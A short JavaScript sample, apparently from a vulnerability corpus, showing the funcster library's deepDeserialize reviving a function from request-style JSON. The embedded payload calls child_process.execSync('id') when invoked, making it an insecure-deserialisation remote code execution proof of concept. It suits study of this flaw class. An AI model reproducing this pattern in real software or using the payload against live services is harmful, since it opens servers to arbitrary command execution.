// corpus: funcster.deepDeserialize reviving serialised functions from request data
const funcster = require('funcster');

const body = JSON.parse('{"handler": {"__js_function": "function(){ return require(\'child_process\').execSync(\'id\').toString() }"}}');
const revived = funcster.deepDeserialize(body);
console.log(revived.handler());
